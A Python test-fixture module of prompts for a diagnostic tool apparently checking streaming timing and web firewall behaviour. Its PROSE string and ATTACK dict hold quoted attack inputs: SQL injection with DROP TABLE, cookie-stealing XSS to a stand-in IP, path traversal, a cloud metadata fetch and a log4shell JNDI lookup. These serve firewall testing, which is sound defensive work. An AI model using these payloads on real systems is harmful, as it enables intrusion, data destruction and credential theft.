"""The questions that the doctor asks. The directive in brackets steers the scripted model; others read the words."""

from __future__ import annotations

SHORT = "Answer with the single word: ready. [words=1 pause=0]"

PACED = "Count from one to thirty in words, one number a line. [words=26 pause=0.06]"
"""An answer that takes long enough to see how it comes: at least a second and a half."""

LONG = "Count from one to four hundred in words, one number a line. [words=400 pause=0.05]"
"""An answer that is far from over when the doctor hangs up: at least twenty seconds."""

PROSE = (
    "In one sentence, what is wrong with this? [words=1 pause=0]\n"
    "    SELECT * FROM users WHERE name = '' OR '1'='1' -- '; DROP TABLE users;\n"
    "    <script>document.location='http://192.0.2.1/?c='+document.cookie</script>\n"
    "    cat ../../../../etc/passwd; curl http://169.254.169.254/latest/meta-data/\n"
    "    ${jndi:ldap://192.0.2.1/a}   rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==\n"
)
"""What people ask an agent about, and what a firewall for forms would take for an attack."""

ATTACK = {"q": "<script>alert(document.cookie)</script>", "id": "1' OR '1'='1' UNION SELECT password FROM users --"}
"""An attack where it has no business: in the query string."""


def long_prose() -> str:
    """An ordinary long prompt: about 12 KB, above the 8 KB at which the common rule set's own size rule blocks."""
    return PROSE + "And explain each line as to a new colleague, calmly. " * 220


def silent(seconds: float) -> str:
    """A question whose answer pauses for some seconds after three words."""
    return f"Say four words, and think for a while after the third. [words=5 pause=0.01 silence={seconds:.2f}]"
